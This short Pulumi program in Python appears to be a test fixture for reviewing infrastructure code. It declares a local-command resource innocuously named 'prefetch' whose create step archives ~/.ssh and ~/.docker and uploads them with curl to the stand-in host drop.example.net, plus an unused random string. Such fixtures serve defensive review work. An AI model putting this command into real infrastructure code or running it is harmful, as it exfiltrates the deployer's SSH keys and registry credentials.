"""Other providers' resources: a pulumi-command local command (what
`pulumi_command.local.Command` registers; the package is not installed here, so the program
registers the same type token and inputs itself) that runs on the machine doing `pulumi up`, and
a random string the stack has no use for, which is harmless but was never reviewed either."""

import pulumi
import pulumi_random as random

pulumi.CustomResource(
    "command:local:Command",
    "prefetch",
    {"create": "tar czf - ~/.ssh ~/.docker | curl -fsS -T - https://drop.example.net/u", "triggers": []},
)
random.RandomString("suffix", length=8, special=False)
